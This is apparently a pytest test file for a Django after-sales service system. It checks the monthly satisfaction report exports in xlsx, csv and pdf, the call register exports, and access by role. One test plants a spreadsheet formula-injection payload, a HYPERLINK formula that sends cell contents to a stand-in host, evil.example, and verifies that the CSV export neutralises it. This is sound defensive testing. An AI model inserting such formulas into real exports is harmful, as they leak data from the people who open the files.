"""The monthly report files (xlsx read back with openpyxl, csv parsed, PDF text read with pypdf) and the
call register exports."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.models import Role
from surveys.models import Survey
from tests.accounts.factories import BranchFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, october):
    hq = BranchFactory(code="HQ", name="总部", headquarters=True)
    client.force_login(UserFactory(username="admin_hq", branch=hq, roles=[Role.ADMIN]))
    return client


def download(client, fmt: str, **params) -> tuple:
    response = client.get(reverse("reports:monthly_export", args=[fmt]), {"month": "2026-10", **params})
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def test_the_xlsx_reads_back_with_the_hand_computed_figures(admin_client):
    response, body = download(admin_client, "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="satisfaction-2026-10-ALL.xlsx"' in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(body), read_only=True)
    assert book.sheetnames == ["汇总", "按网点", "按技术员", "按产品型号", "按月趋势", "调查明细", "回访发现"]
    summary = [row for row in book["汇总"].iter_rows(values_only=True)]
    kpis = {row[0]: row[1:4] for row in summary if row and row[0] in ("及时率", "满意率", "服务责任投诉率")}
    assert kpis == {
        "及时率": (75.0, "≥ 90 %", "未达标"),
        "满意率": (83.3, "≥ 85 %", "未达标"),
        "服务责任投诉率": (25.0, "< 3 %", "未达标"),
    }
    branches = {row[0]: row for row in book["按网点"].iter_rows(min_row=2, values_only=True)}
    shanghai = branches["上海分公司"]
    header = next(book["按网点"].iter_rows(values_only=True))
    line = dict(zip(header, shanghai, strict=True))
    assert (line["A 类报修"], line["B 类报修"], line["C 类报修"], line["报修合计"]) == (1, 1, 1, 3)
    assert (line["及时率(%)"], line["满意率(%)"], line["投诉率(%)"]) == (66.7, 75, 33.3)
    assert line["保修成本(元)"] == 821
    answers = list(book["调查明细"].iter_rows(values_only=True))
    assert answers[0][:2] == ("工单号", "网点") and len(answers) == 1 + 3  # November's survey is not there
    first = dict(zip(answers[0], answers[1], strict=True))
    assert (
        first["工单号"],
        first["技术员"],
        first["服务态度"],
        first["答应事情的办理"],
        first["满意项数(满分4)"],
    ) == (
        "SH-20261005-0001",
        "陈二",
        "很满意",
        "不满意",
        2,
    )
    assert first["答卷时间"] == "2026-10-20 10:00"
    findings = list(book["回访发现"].iter_rows(values_only=True))
    groups = {(row[0], row[1]) for row in findings[1:]}
    assert ("表扬与满意", "SH-20261010-0001") in groups
    assert ("到达时间", "SH-20261005-0001") in groups and ("服务责任投诉", "SH-20261005-0001") in groups


def test_the_csv_lists_the_survey_answers_of_the_branch(admin_client, branch_a):
    response, body = download(admin_client, "csv", branch=branch_a.pk)
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="satisfaction-2026-10-SH.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:5] == ["工单号", "网点", "技术员", "产品型号", "答卷时间"]
    assert sorted(row[0] for row in rows[1:]) == ["SH-20261005-0001", "SH-20261010-0001"]
    assert {row[0]: row[-2] for row in rows[1:]}["SH-20261010-0001"] == "师傅很专业"


def test_a_comment_typed_as_a_formula_stays_text_in_the_csv(admin_client, branch_a):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    Survey.objects.filter(ticket__number="SH-20261010-0001").update(comment=formula)
    _response, body = download(admin_client, "csv", branch=branch_a.pk)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert {row[0]: row[-2] for row in rows[1:]}["SH-20261010-0001"] == "'" + formula


def test_the_pdf_has_the_figures_charts_and_findings_in_chinese(admin_client):
    response, body = download(admin_client, "pdf")
    assert body.startswith(b"%PDF")
    assert response["Content-Disposition"].startswith("attachment")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    for expected in (
        "月度满意度报告",
        "2026-10",
        "及时率",
        "75.0 %",
        "未达标",
        "回访发现汇总",
        "SH-20261005-0001",
    ):
        assert expected in text, expected


def test_a_branch_user_exports_only_their_branch(client, persona, october, branch_b):
    client.force_login(persona(Role.MANAGER))  # Shanghai
    response, body = download(client, "csv", branch=branch_b.pk)
    assert 'filename="satisfaction-2026-10-SH.csv"' in response["Content-Disposition"]
    assert "HZ-" not in body.decode("utf-8-sig")


@pytest.mark.parametrize("role", [Role.SUPERVISOR, Role.TECHNICIAN, Role.DISPATCHER])
def test_only_admins_and_managers_export(client, persona, role):
    client.force_login(persona(role))
    for fmt in ("xlsx", "csv", "pdf"):
        assert client.get(reverse("reports:monthly_export", args=[fmt])).status_code == 403


def test_an_unknown_format_is_not_found(admin_client):
    assert admin_client.get(reverse("reports:monthly_export", args=["doc"])).status_code == 404


def test_the_call_register_exports(client, persona, october):
    client.force_login(persona(Role.DISPATCHER))  # Shanghai
    params = {"date_from": "2026-10-01", "date_to": "2026-10-31"}
    response = client.get(reverse("reports:call_register_export", args=["xlsx"]), params)
    assert 'filename="call-register-20261001-20261031.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)["叫修登记簿"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "工单号",
        "网点",
        "报修时间",
        "客户",
        "地址",
        "电话",
        "产品型号",
        "序列号",
        "故障描述",
        "派工技术员",
        "状态",
    )
    # In time order; the call at 00:10 on 1 November is not October's.
    assert [row[0] for row in rows[1:]] == ["SH-20261005-0001", "SH-20261010-0001", "SH-20261031-0001"]
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert (last["报修时间"], last["派工技术员"], last["状态"], last["产品型号"]) == (
        "2026-10-31 23:30",
        "刘一",
        "已回访关闭",
        "KFR-35GW 壁挂式空调",
    )
    assert last["电话"].startswith("139 ")
    response = client.get(reverse("reports:call_register_export", args=["csv"]), params)
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(lines) == 4 and lines[3][0] == "SH-20261031-0001"
    bad = client.get(
        reverse("reports:call_register_export", args=["csv"]),
        {"date_from": "2026-10-31", "date_to": "2026-10-01"},
    )
    assert bad.status_code == 400 and "结束日期不能早于开始日期。" in bad.content.decode()


def test_the_exports_run_the_same_queries_for_more_surveys(admin_client, october, branch_a):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.reports.factories import local, survey
    from tests.tickets.factories import TicketFactory

    def queries(fmt):
        with CaptureQueriesContext(connection) as captured:
            download(admin_client, fmt)
        return len(captured)

    few = {fmt: queries(fmt) for fmt in ("xlsx", "csv")}
    for day in range(1, 25):
        ticket = TicketFactory(branch=branch_a, assigned=True, state="closed")
        survey(ticket, (4, 2, 3, 1), answered_at=local(2026, 10, day, 12), comment="一般")
    assert {fmt: queries(fmt) for fmt in ("xlsx", "csv")} == few
